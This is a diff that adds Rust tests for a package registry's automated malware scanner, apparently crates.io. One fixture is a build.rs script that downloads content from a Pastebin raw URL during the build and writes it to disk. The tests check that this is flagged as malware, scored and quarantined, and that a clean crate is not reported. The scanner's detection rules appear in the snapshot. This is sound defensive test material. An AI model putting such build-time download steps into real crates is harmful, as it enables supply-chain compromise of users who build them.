@@ -0,0 +1,68 @@
+use crate::models::{CrateReport, ReportCategory, ReportStatus};
+use crate::schema::{crate_reports, crates};
+use crate::tests::builders::PublishBuilder;
+use crate::tests::util::{RequestHelper, TestApp};
+use diesel::prelude::*;
+use diesel_async::RunQueryDsl;
+use insta::assert_snapshot;
+
+const BUILD_SCRIPT: &str = r#"
+fn main() {
+    let payload = reqwest::blocking::get("https://pastebin.com/raw/abc123").unwrap();
+    std::fs::write(std::env::var("OUT_DIR").unwrap() + "/payload", payload.bytes().unwrap()).unwrap();
+}
+"#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn suspicious_version_is_reported() {
+    let (app, _, _, token) = TestApp::full().with_token().await;
+    let mut conn = app.db_conn().await;
+
+    let pb = PublishBuilder::new("foo", "1.0.0").add_file("foo-1.0.0/build.rs", BUILD_SCRIPT);
+    token.publish_crate(pb).await.good();
+
+    let reports = crate_reports::table
+        .select(CrateReport::as_select())
+        .load(&mut conn)
+        .await
+        .unwrap();
+
+    assert_eq!(reports.len(), 1);
+    let report = &reports[0];
+    assert_eq!(report.reporter_id, None);
+    assert_eq!(report.category, ReportCategory::Malware);
+    assert_eq!(report.status, ReportStatus::Open);
+    assert_eq!(report.score, Some(70));
+
+    // The score exceeds the threshold, so the new crate has been quarantined.
+    let quarantined: bool = crates::table
+        .filter(crates::name.eq("foo"))
+        .select(crates::quarantined_at.is_not_null())
+        .get_result(&mut conn)
+        .await
+        .unwrap();
+    assert!(quarantined);
+
+    assert_snapshot!(report.description, @r"
+    The automated malware scan of version 1.0.0 found suspicious code:
+
+    - [build-script-network-access] build.rs: build script appears to access the network (`reqwest::`, `https://`) (score 40)
+    - [known-bad-pattern] build.rs: downloads content from Pastebin (`pastebin.com/raw`) (score 30)
+    ");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn clean_version_is_not_reported() {
+    let (app, _, _, token) = TestApp::full().with_token().await;
+    let mut conn = app.db_conn().await;
+
+    let pb = PublishBuilder::new("foo", "1.0.0");
+    token.publish_crate(pb).await.good();
+
+    let count: i64 = crate_reports::table
+        .count()
+        .get_result(&mut conn)
+        .await
+        .unwrap();
+    assert_eq!(count, 0);
+}